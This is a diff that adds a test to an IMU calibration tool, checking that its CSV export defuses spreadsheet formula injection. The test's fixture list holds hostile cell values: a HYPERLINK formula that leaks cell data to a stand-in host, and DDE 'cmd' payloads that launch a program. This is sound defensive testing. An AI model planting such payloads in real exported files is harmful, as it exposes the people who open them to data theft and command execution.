@@ -426,3 +426,31 @@ def test_a_terminal_that_is_not_utf8_gets_the_message_not_an_encoding_error(sess
                                 env={"PYTHONIOENCODING": "ascii"})
     assert code == 0 and "Traceback" not in err and "encod" not in err, err
     assert (tmp_path / "c.json").exists()
+
+
+# ------------------------------------------------------------------ CSV formula injection
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", " =1+1", "\uff1d1+1"]
+
+
+def test_store_export_writes_formula_like_text_as_text(tmp_path):
+    import csv
+
+    from imucalib.calibration import Calibration
+    from imucalib.store import Store
+
+    with Store(tmp_path / "s.sqlite") as st:
+        for k, name in enumerate(FORMULAS):
+            cal = Calibration(method="tedaldi2014", fit={"verdict": "accepted", "verdict_reasons": []})
+            st.add({"device": name, "recorded_at": None, "temperature_c": -5.0, "method": "tedaldi2014",
+                    "status": "ok", "verdict": "accepted", "calibration": cal,
+                    "files": [{"path": f"=cmd|{k}.csv", "sha256": f"{k}", "bytes": 1}],
+                    "source_sha256": f"sha-{k}", "settings": {"method": "tedaldi2014"}, "error": None})
+    code, out, err, _ = limited("store", "export", "--store", tmp_path / "s.sqlite", "-o", tmp_path / "x.csv")
+    assert code == 0, err
+    with open(tmp_path / "x.csv", newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert sorted(r["device"] for r in rows) == sorted("'" + n for n in FORMULAS)
+    assert all(r["files"].startswith("'=cmd|") for r in rows)
+    assert {r["temperature_c"] for r in rows} == {"-5.0"}  # numbers stay numbers
+    assert all(float(r["accelerometer.bias.x"]) == 0.0 for r in rows)
